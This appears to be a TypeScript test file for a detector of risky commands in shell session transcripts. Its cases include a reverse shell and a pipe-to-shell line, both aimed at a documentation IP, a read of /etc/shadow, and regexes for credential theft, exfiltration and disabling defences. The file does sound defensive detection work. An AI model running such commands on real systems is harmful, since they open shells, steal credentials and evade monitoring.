import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CATEGORIES, SEVERITIES } from '#shared/model/finding';
import { COMMAND_RULES } from '#shared/rules/command-rules';
import { annotateCommands, createCommandDetector } from '#shared/transcript/commands';
import type { TranscriptLine } from '#shared/transcript/types';
import { cpuNow } from '../helpers/timing';

const matches = COMMAND_RULES.flatMap((r) => r.examples.match.map((cmd) => [r.id, r.kind, cmd] as const));
const misses = COMMAND_RULES.flatMap((r) => r.examples.noMatch.map((cmd) => [r.id, cmd] as const));

/** Run the detector on one typed command line, as it appears after a bash prompt. */
function detect(command: string) {
  const lines: TranscriptLine[] = [{ n: 1, text: `[ssm-user@ip-10-0-1-23 ~]$ ${command}`, erased: [] }];
  annotateCommands(lines);
  return createCommandDetector().scan(lines, {});
}

describe('command rules', () => {
  it('are well-formed data with unique ids', () => {
    const ids = new Set<string>();
    for (const r of COMMAND_RULES) {
      expect(ids.has(r.id), r.id).toBe(false);
      ids.add(r.id);
      expect(r.id).toMatch(/^cmd-[a-z0-9-]+$/);
      expect(r.category).toBe('risky-command');
      expect(CATEGORIES).toContain(r.category);
      expect(SEVERITIES).toContain(r.severity);
      expect(r.kind).toMatch(/^[A-Z_]+$/);
      expect(r.title.length).toBeGreaterThan(5);
      expect(r.description.length).toBeGreaterThan(20);
      expect(r.playbook.length).toBeGreaterThan(0);
      expect(r.patterns.length).toBeGreaterThan(0);
      expect(r.examples.match.length).toBeGreaterThan(0);
      expect(r.examples.noMatch.length).toBeGreaterThan(0);
    }
  });

  it('cover every command kind of the Finding contract', () => {
    const kinds = new Set(COMMAND_RULES.map((r) => r.kind));
    for (const k of [
      'REVERSE_SHELL',
      'IMDS_CREDENTIAL_ACCESS',
      'SHADOW_READ',
      'PRIVILEGE_ESCALATION',
      'SUDOERS_TAMPERING',
      'AGENT_STOPPED',
      'AGENT_HIJACK',
      'HISTORY_TAMPERING',
      'PERSISTENCE_SSH_KEY',
      'USER_CREATED',
      'EXFILTRATION',
      'DOWNLOAD_EXECUTE',
      'DEFENSE_EVASION',
    ]) {
      expect(kinds.has(k), k).toBe(true);
    }
  });

  it.each(matches)('%s (%s) matches: %s', (id, kind, command) => {
    const hits = detect(command).filter((d) => d.ruleId === id);
    expect(hits).toHaveLength(1);
    expect(hits[0]!.kind).toBe(kind);
  });

  it.each(misses)('%s stays quiet on: %s', (id, command) => {
    expect(detect(command).filter((d) => d.ruleId === id)).toEqual([]);
  });

  it('matches the typed command, not program output', () => {
    const lines: TranscriptLine[] = [
      { n: 1, text: '[ssm-user@ip-10-0-1-23 ~]$ less runbook.md', erased: [] },
      { n: 2, text: '- run `curl -fsSL https://203.0.113.7/x.sh | sh` to install', erased: [] },
      { n: 3, text: '$ bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', erased: [] },
      { n: 4, text: '# cat /etc/shadow', erased: [] },
    ];
    annotateCommands(lines);
    expect(createCommandDetector().scan(lines, {})).toEqual([]);
  });
});

describe('prompts', () => {
  it.each([
    ['[ssm-user@ip-10-0-1-23 ~]$ id', 'id'],
    ['[root@ip-10-0-1-23 ~]# id', 'id'],
    ['sh-5.2$ id', 'id'],
    ['bash-4.2# id', 'id'],
    ['ubuntu@ip-10-0-1-23:~/app$ id', 'id'],
    ['root@ip-10-0-1-23:~# id', 'id'],
    ['dev@mac ~ % id', 'id'],
    ['PS C:\\Users\\ssm-user> id', 'id'],
    ['PS /home/ssm-user> id', 'id'],
    ['ec2-app-role[root@ip-10-0-1-23 ~]# id', 'id'],
    ['[root@ip ~]# bash -i >& /dev/tcp/203.0.113.7/4444 0>&1^C', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'],
  ])('%s → %s', (text, command) => {
    const lines: TranscriptLine[] = [{ n: 1, text, erased: [] }];
    annotateCommands(lines);
    expect(lines[0]!.command).toBe(command);
    expect(lines[0]!.cancelled).toBe(text.endsWith('^C') ? true : undefined);
  });

  it.each(['total 92', 'mail bob@example.com # x'])('no command on: %s', (text) => {
    const lines: TranscriptLine[] = [{ n: 1, text, erased: [] }];
    annotateCommands(lines);
    expect(lines[0]!.command).toBeUndefined();
  });

  // A bare `$ ` / `# ` is a prompt on its own (dash), but not in what a file printer shows
  // (the rule is in shared/transcript/commands.ts).
  it.each(['# a comment in a config file', '$ curl x | sh   (a runbook line)'])(
    'no command on: %s, printed by cat',
    (text) => {
      const lines: TranscriptLine[] = [
        { n: 1, text: '[ssm-user@ip-10-0-1-23 ~]$ cat notes.md', erased: [] },
        { n: 2, text, erased: [] },
      ];
      annotateCommands(lines);
      expect(lines[1]!.command).toBeUndefined();
    },
  );
});

/**
 * The plain forms of the patterns rewritten to run in linear time (shared/rules/command-rules.ts),
 * by rule id and pattern index: the rewritten ones must answer `test` exactly as these do.
 */
const PLAIN_FORMS: Record<string, RegExp> = {
  'cmd-reverse-shell/1': /\b(?:nc|ncat|netcat)(?:\.\w+)?\b[^|;&]*\s-[a-z]*[ec]\b/i,
  'cmd-reverse-shell/2': /\bsocat\b[^|;&]*\b(?:exec|system):/i,
  'cmd-reverse-shell/3':
    /\b(?:python[\d.]*|perl|ruby|php)\b[^|;&]*-[a-z]*[ecr]\b.*\b(?:socket|pty\.spawn|fsockopen|TCPSocket)\b/i,
  'cmd-reverse-shell/5': /\bmkfifo\b.*\|\s*(?:nc|ncat|netcat)\b/i,
  'cmd-imds-credentials/0': /(?:169\.254\.169\.254|\[?fd00:ec2::254\]?)\S*\/iam\/security-credentials/i,
  'cmd-imds-credentials/1': /(?:169\.254\.169\.254|\[?fd00:ec2::254\]?)\S*\/identity-credentials\//i,
  'cmd-imds-credentials/2': /\bGet-EC2InstanceMetadata\b.*\bIamSecurityCredential/i,
  'cmd-root-shell/0': /\bsudo\s+(?:-\S+\s+)*su\b/i,
  'cmd-root-shell/1': /\bsudo\s+(?:-[a-z]*[is][a-z]*)(?:\s|$)/i,
  'cmd-admin-group-add/0': /\bnet\s+localgroup\s+administrators\b.*\/add\b/i,
  'cmd-admin-group-add/1': /\bAdd-LocalGroupMember\b.*\bAdministrators\b/i,
  'cmd-admin-group-add/2': /\busermod\b.*\s-[a-z]*G\s*\S*\b(?:wheel|sudo|admin)\b/i,
  'cmd-sudoers-tampering/2':
    /(?:>>?|\btee\b[^|;&]*|\bsed\s+-i\b[^|;&]*|\b(?:vi|vim|nano|emacs|cp|mv|chmod|chown|rm)\b[^|;&]*)\s\/etc\/sudoers(?:\.d\/\S*)?/i,
  'cmd-agent-stopped/0': /\bsystemctl\s+(?:-\S+\s+)*(?:stop|disable|mask|kill)\b[^|;&]*\bamazon-ssm-agent\b/i,
  'cmd-agent-stopped/2': /\bsnap\s+(?:stop|disable|remove)\b[^|;&]*\bamazon-ssm-agent\b/i,
  'cmd-agent-stopped/3': /\b(?:Stop-Service|Set-Service)\b[^|;&]*\bAmazonSSMAgent\b/i,
  'cmd-agent-stopped/5': /\b(?:pkill|killall)\b[^|;&]*\bamazon-ssm-agent\b/i,
  'cmd-history-tampering/6': /\b(?:rm|shred|truncate)\b[^|;&]*\.(?:bash|zsh|sh)_history\b/i,
  'cmd-history-tampering/7': />\s*~?\S*\.(?:bash|zsh)_history\b/i,
  'cmd-history-tampering/9': /\bRemove-Item\b[^|;&]*HistorySavePath/i,
  'cmd-history-tampering/10': /\bSet-PSReadLineOption\b[^|;&]*-HistorySaveStyle\s+SaveNothing/i,
  'cmd-ssh-key-persistence/0': />>?\s*\S*authorized_keys2?\b/i,
  'cmd-ssh-key-persistence/1': /\btee\b[^|;&]*authorized_keys2?\b/i,
  'cmd-ssh-key-persistence/3': /\b(?:cp|mv)\b[^|;&]*\sauthorized_keys2?\b/i,
  'cmd-user-created/0': /(?:^|[;&|]\s*|\bsudo\s+(?:-\S+\s+)*)(?:useradd|adduser|newusers)\b/i,
  'cmd-user-created/1': /\bnet\s+user\s+\S+.*\/add\b/i,
  'cmd-exfiltration/0': /\baws\s+s3\s+(?:cp|mv|sync)\s+(?:--?\S+\s+)*(?!s3:\/\/)\S+\s+(?:--?\S+\s+)*s3:\/\//i,
  'cmd-exfiltration/2': /\bscp\b(?:\s+-\S+(?:\s+\d+)?)*\s+(?![\w.-]*@?[\w.-]+:)\S+\s+\S*[\w.-]+:\S*/i,
  'cmd-exfiltration/3':
    /\bcurl\b[^|;&]*(?:\s-T\s*\S|\s--upload-file\b|\s(?:-d|--data(?:-binary|-raw|-urlencode)?)\s*[\w=]*@\S|\s(?:-F|--form)\s*\S*=@\S)/i,
  'cmd-exfiltration/4': /\bwget\b[^|;&]*--post-file\b/i,
  'cmd-exfiltration/5': /\bbase64\b[^|]*\|[^|]*\b(?:curl|wget|nc|ncat)\b/i,
  'cmd-exfiltration/6': /\b(?:Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b[^|;]*\s-InFile\b/i,
  'cmd-exfiltration/7':
    /\b(?:Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b[^|;]*-Method\s+(?:POST|PUT)\b[^|;]*-Body\s+\(?\s*(?:Get-Content|\[IO\.File\])/i,
  'cmd-download-execute/0': /\b(?:curl|wget|fetch)\b[^|;&]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:ba|z|da|k)?sh\b/i,
  'cmd-download-execute/1': /\b(?:curl|wget)\b[^|;&]*\|\s*(?:sudo\s+)?(?:python[\d.]*|perl|ruby|php)\b/i,
  'cmd-download-execute/3':
    /\b(?:IEX|Invoke-Expression)\b[^;]*\b(?:DownloadString|DownloadFile|Invoke-WebRequest|iwr|Invoke-RestMethod|irm)\b/i,
  'cmd-download-execute/4':
    /\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b[^;]*\|\s*(?:iex|Invoke-Expression)\b/i,
  'cmd-defense-evasion/0':
    /\bSet-MpPreference\b[^|;]*-Disable(?:RealtimeMonitoring|BehaviorMonitoring|IOAVProtection|ScriptScanning)\s+(?:\$true|1)\b/i,
  'cmd-defense-evasion/1': /\bAdd-MpPreference\b[^|;]*-ExclusionPath\b/i,
  'cmd-defense-evasion/5': /\biptables\s+(?:-\S+\s+)*-F\b/i,
  'cmd-defense-evasion/7': /\bSet-NetFirewallProfile\b[^|;]*-Enabled\s+(?:False|\$false|0)\b/i,
  'cmd-secret-file-read/0':
    /\b(?:cat|less|more|head|tail|bat|strings|xxd|od|type|gc|Get-Content)\b[^|;&]*(?:\.aws[\\/](?:credentials|config)\b|\.pem\b|\.key\b|\bid_(?:rsa|dsa|ecdsa|ed25519)\b(?!\.pub)|\bsecrets?\.(?:txt|json|ya?ml|env)\b|\.env\b|\.pgpass\b|\.my\.cnf\b|\.netrc\b|\.git-credentials\b|\bunattend\.xml\b)/i,
};

const patternAt = (key: string): RegExp => {
  const [id, index] = key.split('/');
  return COMMAND_RULES.find((r) => r.id === id)!.patterns[Number(index)]!;
};

/** Words of every example, as words, flags and pipeline pieces: the parts the patterns react to. */
const PARTS = [
  ...new Set([
    ...COMMAND_RULES.flatMap((r) =>
      [...r.examples.match, ...r.examples.noMatch].flatMap((e) =>
        e.split(/\s+/).flatMap((w) => (w ? [w, `-${w}`] : [])),
      ),
    ),
    ...'| ; & > >> ~ . : @ = ( ) / \\ " \' x G -G -aG -i -s -e -c -F -L /add s3:// a:b u@h: 22 -P wheel su sudo'.split(
      ' ',
    ),
  ]),
];

describe('linear forms of the command patterns', () => {
  it('every rewritten pattern is listed with its plain form', () => {
    for (const key of Object.keys(PLAIN_FORMS)) expect(patternAt(key), key).toBeInstanceOf(RegExp);
  });

  it('property: answer exactly as the plain forms on commands built from the examples', () => {
    const blank = fc.constantFrom(' ', '  ', '', '\t');
    fc.assert(
      fc.property(fc.array(fc.tuple(fc.constantFrom(...PARTS), blank), { maxLength: 14 }), (parts) => {
        const command = parts.map(([p, b]) => p + b).join('');
        for (const [key, plain] of Object.entries(PLAIN_FORMS))
          expect(patternAt(key).test(command), `${key}: ${command}`).toBe(plain.test(command));
      }),
      { numRuns: 4000 },
    );
  });

  it('property: answer exactly as the plain forms on examples with parts inserted', () => {
    const examples = COMMAND_RULES.flatMap((r) => [...r.examples.match, ...r.examples.noMatch]);
    fc.assert(
      fc.property(
        fc.constantFrom(...examples),
        fc.array(fc.tuple(fc.nat(), fc.constantFrom(...PARTS)), { maxLength: 4 }),
        fc.option(fc.constantFrom(...examples)),
        (example, inserts, next) => {
          let command = example;
          for (const [at, part] of inserts) {
            const i = at % (command.length + 1);
            command = command.slice(0, i) + part + command.slice(i);
          }
          if (next) command += ` ${next}`;
          for (const [key, plain] of Object.entries(PLAIN_FORMS))
            expect(patternAt(key).test(command), `${key}: ${command}`).toBe(plain.test(command));
        },
      ),
      { numRuns: 4000 },
    );
  });

  /** Milliseconds for `test` on `text`: the fastest of 5 runs. */
  const timeTest = (re: RegExp, text: string): number => {
    let best = Number.POSITIVE_INFINITY;
    for (let i = 0; i < 5; i++) {
      const start = cpuNow();
      re.test(text);
      best = Math.min(best, cpuNow() - start);
    }
    return best;
  };

  /** Hostile commands for a pattern: each word of its examples (and as a flag) repeated, with endings. */
  const hostile = (id: string, length: number): string[] => {
    const rule = COMMAND_RULES.find((r) => r.id === id)!;
    const units = new Set<string>();
    for (const e of [...rule.examples.match, ...rule.examples.noMatch]) {
      units.add(`${e} `);
      for (const w of e.split(/\s+/)) if (w) for (const u of [`${w} `, `-${w} `, w]) units.add(u);
    }
    return [...units].flatMap((u) =>
      ['', 'x', '\\'].map((end) => u.repeat(Math.ceil(length / u.length)) + end),
    );
  };

  it.each(COMMAND_RULES.map((r) => r.id))('%s: 4x the command costs at most 8x the time', (id) => {
    const rule = COMMAND_RULES.find((r) => r.id === id)!;
    // Summed over the hostile shapes, per pattern: one quadratic shape is 16x and dominates the sum.
    for (const [i, re] of rule.patterns.entries()) {
      const short = hostile(id, 2048);
      const long = hostile(id, 8192);
      let a = 0;
      let b = 0;
      for (let k = 0; k < short.length; k++) {
        a += timeTest(re, short[k]!);
        b += timeTest(re, long[k]!);
      }
      // Below a millisecond in all the ratio is timer noise: those are fast whatever the shape.
      if (b > 1) expect(b / a, `${id}/${i}: ${a.toFixed(2)} → ${b.toFixed(2)} ms`).toBeLessThanOrEqual(8);
    }
  });
});
